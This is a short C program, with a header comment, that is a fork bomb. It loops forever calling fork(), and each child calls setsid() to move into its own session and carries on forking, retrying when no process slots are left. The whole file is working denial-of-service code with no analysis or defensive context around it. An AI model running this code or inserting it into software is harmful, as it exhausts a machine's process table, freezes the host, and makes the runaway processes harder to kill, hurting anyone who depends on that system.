/* Forks for ever, each child in a session of its own and doing the same; goes on trying when there is no room. */
#include <unistd.h>

int main(void)
{
    for (;;)
        if (fork() == 0)
            setsid();
}
